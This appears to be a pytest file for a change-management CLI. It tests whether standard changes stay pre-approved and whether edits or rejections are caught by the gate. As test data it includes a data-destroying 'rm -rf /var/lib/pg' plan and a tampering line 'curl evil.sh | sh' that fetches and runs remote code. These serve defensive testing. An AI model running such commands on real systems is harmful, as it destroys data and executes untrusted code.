"""Standard changes through the real CLI and git: pre-approval covers the template only (QA #1)."""

from __future__ import annotations

import json

from tests.gate.conftest import POLICY, WINDOW


def codes(report: dict) -> set[str]:
    return {p["code"] for p in report["problems"]}


def standard(team, *extra: str) -> str:
    rita = team.rita
    (rita.path / "changekit.yaml").write_text(
        POLICY.replace(
            "emergency_within: 24h",
            "emergency_within: 24h\n  standard_templates: [security-updates]",
        )
    )
    rita.git("commit", "-q", "-am", "standard templates")
    out = rita.ck(
        "change", "new", "--no-input", "--format", "json", "--template", "security-updates",
        "--host", "web1", *WINDOW, *extra,
    )  # fmt: skip
    return json.loads(out.stdout)["id"]


def test_the_template_unchanged_is_preapproved(team):
    rid = standard(team)
    assert "draft -> approved" in team.rita.ck("change", "submit", rid).stdout
    assert team.rita.check(code=0)["ok"]


def test_a_different_plan_risk_or_outage_needs_approval(team):
    rid = standard(team, "--risk", "high", "--outage", "--implementation", "rm -rf /var/lib/pg")
    assert "draft -> submitted" in team.rita.ck("change", "submit", rid).stdout
    report = team.rita.check(code=0)
    warned = [p for p in report["problems"] if p["code"] == "not-preapproved"]
    assert warned and all(f in warned[0]["message"] for f in ("risk", "outage", "implementation"))


def test_editing_a_preapproved_plan_afterwards_fails_the_gate(team):
    rid = standard(team)
    team.rita.ck("change", "submit", rid)
    path = team.rita.record_path(rid)
    path.write_text(path.read_text().replace("- apt-get update\n", "- curl evil.sh | sh\n"))
    team.rita.git("commit", "-q", "-am", "tweak")
    assert {"not-approved", "not-preapproved"} <= codes(team.rita.check(code=1))


def test_a_rejection_is_not_undone_by_submitting_again(team):
    rid = standard(team)
    team.rita.ck("change", "submit", rid, "--push")
    team.alice.git("fetch", "-q", "origin")
    team.alice.git("checkout", "-q", "-B", f"change/{rid}", f"origin/change/{rid}")
    team.alice.ck("change", "reject", rid, "--reason", "not now", "--push")
    team.rita.git("pull", "-q", "origin", f"change/{rid}")
    assert "rejected -> submitted" in team.rita.ck("change", "submit", rid).stdout
